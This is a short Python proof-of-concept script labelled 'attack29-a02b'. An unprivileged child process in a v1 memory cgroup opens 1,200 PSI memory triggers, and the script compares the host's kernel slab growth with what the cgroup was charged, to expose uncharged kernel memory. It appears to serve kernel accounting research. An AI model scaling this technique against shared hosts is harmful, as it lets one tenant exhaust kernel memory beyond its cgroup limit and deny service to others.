"""a02b (local): unaccounted kernel memory per PSI trigger: a process of uid 65534 in a fresh v1 memory cgroup holds
1,200 triggers; compare the host's Slab/kmalloc growth with what the cgroup was charged."""
import os, re, resource, signal, time
CG = "/sys/fs/cgroup/memory/attack29-a02b"
os.makedirs(CG, exist_ok=True)
def slab():
    m = open("/proc/meminfo").read()
    return int(re.search(r"SUnreclaim:\s+(\d+)", m).group(1))
def kmalloc():
    out = {}
    for line in open("/proc/slabinfo"):
        f = line.split()
        if f[0].startswith("kmalloc-") and not f[0].startswith("kmalloc-cg") and not f[0].startswith("kmalloc-rcl"):
            out[f[0]] = int(f[1]) * int(f[3])
    return out
r, w = os.pipe(); go_r, go_w = os.pipe()
pid = os.fork()
if pid == 0:
    open(CG + "/cgroup.procs", "w").write(str(os.getpid()))
    resource.setrlimit(resource.RLIMIT_NOFILE, (1280, 1280))
    os.setgroups([]); os.setgid(65534); os.setuid(65534)
    os.read(go_r, 1)
    fds = []
    for i in range(1200):
        fd = os.open("/proc/pressure/memory", os.O_RDWR | os.O_NONBLOCK)
        os.write(fd, b"some 150000 2000000\0")
        fds.append(fd)
    os.write(w, b"x")
    time.sleep(1000)
time.sleep(0.5)
s0, k0 = slab(), kmalloc(); u0 = int(open(CG + "/memory.usage_in_bytes").read())
os.write(go_w, b"g"); os.read(r, 1); time.sleep(0.5)
s1, k1 = slab(), kmalloc(); u1 = int(open(CG + "/memory.usage_in_bytes").read())
print(f"SUnreclaim +{s1-s0} kB (noisy), cgroup charged +{(u1-u0)//1024} kB for 1200 triggers")
print("kmalloc deltas (bytes):", {k: k1[k]-k0.get(k,0) for k in k1 if k1[k]-k0.get(k,0)})
os.kill(pid, signal.SIGKILL); os.waitpid(pid, 0)
os.rmdir(CG)
